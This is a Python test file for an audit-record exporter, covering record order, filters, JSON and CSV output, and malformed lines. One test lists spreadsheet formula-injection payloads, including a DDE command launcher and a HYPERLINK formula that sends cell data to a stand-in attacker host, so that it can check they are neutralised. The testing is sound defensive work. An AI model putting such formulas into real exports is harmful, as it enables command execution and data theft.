"""Export of audit records: all that match, in the order of the chain, safe for spreadsheets."""

import csv
import io
import json
from collections.abc import Iterable
from datetime import UTC, datetime
from time import process_time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from datasphere_glue.errors import CredentialsRejected, Unavailable
from datasphere_glue.evidence.export import COLUMNS, ExportFilter, as_array, as_csv, export_records
from datasphere_glue.evidence.recorder import EvidenceRecorder
from datasphere_glue.evidence.verify import verify
from datasphere_glue.model.run_action import RunAction
from datasphere_glue.outcome.run import Result
from datasphere_glue.plan.actions import ChangeAction
from datasphere_glue.storage.store import json_lines
from tests.unit.evidence.audit_trails import write_run
from tests.unit.samples import nightly, table_change
from tests.unit.storage.stores import MemoryStore


@pytest.fixture
def store() -> MemoryStore:
    """Return the trail of three nightly runs, a run of a person and a record without a chain."""
    store = MemoryStore()
    old = {"run_id": "old", "started": "2026-11-01T01:00:00+00:00", "event": "change"}
    store.put("runs/old/audit.jsonl", json_lines([old | {"space": "SALES", "asset": "V_ORDERS"}]))
    write_run(
        store, "z-first", table_change(ChangeAction.CREATE), started="2026-11-20T01:00:00+00:00"
    )
    write_run(store, "second", table_change(space="HR"), started="2026-11-21T23:30:00-02:00")
    write_run(store, "quiet", started="2026-11-22T12:00:00+00:00")
    run = nightly(
        Result(RunAction.SYNC, error=CredentialsRejected("no")),
        run_id="refused",
        started="2026-11-23T01:00:00",
        actor="arn:user/jane",
    )
    EvidenceRecorder().after(store, "refused", run)
    return store


def run_and_event(records: Iterable[dict[str, Any]]) -> list[tuple[str, str]]:
    return [(record["run_id"], record["event"]) for record in records]


def day(number: int) -> datetime:
    return datetime(2026, 11, number, tzinfo=UTC)


ALL = [
    ("old", "change"),
    ("z-first", "run"),
    ("z-first", "change"),
    ("second", "run"),
    ("second", "change"),
    ("quiet", "run"),
    ("refused", "run"),
    ("refused", "security"),
]


def test_records_are_in_the_order_of_the_chain_with_file_and_line(store: MemoryStore) -> None:
    records = list(export_records(store, ExportFilter()))

    assert run_and_event(records) == ALL
    assert [record["link"] for record in records] == [None, 2, 2, 4, 4, 5, 6, 6]
    assert [record["line"] for record in records] == [1, 1, 2, 1, 2, 1, 1, 2]
    assert records[2]["file"] == "runs/z-first/audit.jsonl"


@pytest.mark.parametrize(
    ("selected", "runs"),
    [
        (ExportFilter(run="second"), ["second", "second"]),
        (ExportFilter(run="sec"), []),
        (ExportFilter(events=frozenset({"security"})), ["refused"]),
        (ExportFilter(spaces=frozenset({"HR", "SALES"})), ["old", "z-first", "second"]),
        (ExportFilter(asset="V_ORD*"), ["old", "z-first", "second"]),
        (ExportFilter(asset="HR.*"), ["second"]),
        (ExportFilter(asset="v_orders"), []),
        (ExportFilter(actions=frozenset({"create"})), ["z-first"]),
        (ExportFilter(actor="*jane"), ["refused", "refused"]),
        (ExportFilter(since=day(22)), ["second", "second", "quiet", "refused", "refused"]),
        (ExportFilter(until=day(22)), ["old", "z-first", "z-first"]),
        (ExportFilter(since=day(20), until=day(21)), ["z-first", "z-first"]),
        (ExportFilter(since=day(20), events=frozenset({"change"})), ["z-first", "second"]),
    ],
)
def test_a_filter_excludes_records_that_do_not_match(
    store: MemoryStore, selected: ExportFilter, runs: list[str]
) -> None:
    assert [record["run_id"] for record in export_records(store, selected)] == runs


def test_json_lines_and_array_hold_the_same_records(store: MemoryStore) -> None:
    records = list(export_records(store, ExportFilter()))
    lines = b"".join(json_lines(records)).decode()

    assert [json.loads(line) for line in lines.splitlines()] == records
    assert json.loads(b"".join(as_array(records))) == records
    assert json.loads(b"".join(as_array([]))) == []
    assert json.loads(b"".join(as_array(records[:1]))) == records[:1]


def rows(records: Iterable[dict[str, Any]]) -> list[dict[str, str]]:
    text = b"".join(as_csv(records)).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_has_a_column_for_every_key(store: MemoryStore) -> None:
    records = list(export_records(store, ExportFilter()))
    table_rows = rows(records)

    assert {key for record in records for key in record} <= set(COLUMNS)
    assert len(set(COLUMNS)) == len(COLUMNS)
    assert [row["run_id"] for row in table_rows] == [run for run, _ in ALL]
    assert table_rows[2]["verified"] == "true"
    assert table_rows[4]["asset"] == "V_ORDERS"
    assert json.loads(table_rows[4]["fields"])[0]["after"] == "Sales orders"
    assert json.loads(table_rows[-1]["error"])["code"] == "CREDENTIALS_REJECTED"
    assert table_rows[0]["hash"] == ""


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1+1",
        " =1+1",
        "  \t=1",
        "\u3000=1",
        "\xa0@SUM(A1)",
        "\ufeff=1",
        "\u200b+1",
        "\x00=1",
        "\x0b-1",
        "\ufe66",
        "\ufe6bSUM(A1)",
        " \uff0b1",
        '=HYPERLINK("https://evil.example?"&A1,"x")',
    ],
)
def test_no_cell_is_evaluated_as_a_formula(text: str) -> None:
    (row,) = rows([{"reason": text, "actor": text, "event": "change"}])

    assert row["reason"] == row["actor"] == f"'{text}"


@given(st.text())
def test_a_text_survives_csv_unchanged(text: str) -> None:
    (row,) = rows([{"reason": text}])

    assert row["reason"].removeprefix("'") == text.removeprefix("'")
    assert not row["reason"].startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


@pytest.mark.parametrize(
    "line",
    [
        b"no json",
        b"[]",
        b'{"event": "run"}',
        b'{"event": 1, "started": "2026-11-01"}',
        b'{"event": "run", "started": "2026-11-01", "actor": 7}',
        b'{"event": "run", "started": "2026-11-01", "space": ["SALES"]}',
        b"[" * 100_000,
    ],
)
def test_an_invalid_line_is_reported_with_file_and_number(store: MemoryStore, line: bytes) -> None:
    store.bodies["runs/quiet/audit.jsonl"] += line + b"\n"

    with pytest.raises(Unavailable, match=r"line 2 of memory:runs/quiet/audit\.jsonl") as error:
        list(export_records(store, ExportFilter(actor="*", spaces=frozenset({"SALES"}))))
    assert "audit verify" in error.value.remedy


@pytest.mark.ci_only
def test_ten_thousand_records_are_verified_and_exported_within_seconds() -> None:
    store = MemoryStore()
    for night in range(20):
        changes = (table_change(name=f"v_{n}", space=f"S{n % 7}") for n in range(500))
        write_run(store, f"night-{night}", *changes, started=f"2026-11-{night + 1:02}T01:00:00Z")

    began = process_time()
    assert verify(store).records == 10_020
    verified = process_time()
    selected = ExportFilter(since=day(11), spaces=frozenset({"S3"}), asset="*.V_1*")
    chosen = list(rows(export_records(store, selected)))
    everything = sum(1 for _ in as_csv(export_records(store, ExportFilter())))
    ended = process_time()

    assert len(chosen) == 10 * len([n for n in range(500) if n % 7 == 3 and f"{n}"[0] == "1"])
    assert everything == 10_021
    assert verified - began < 5
    assert ended - verified < 8
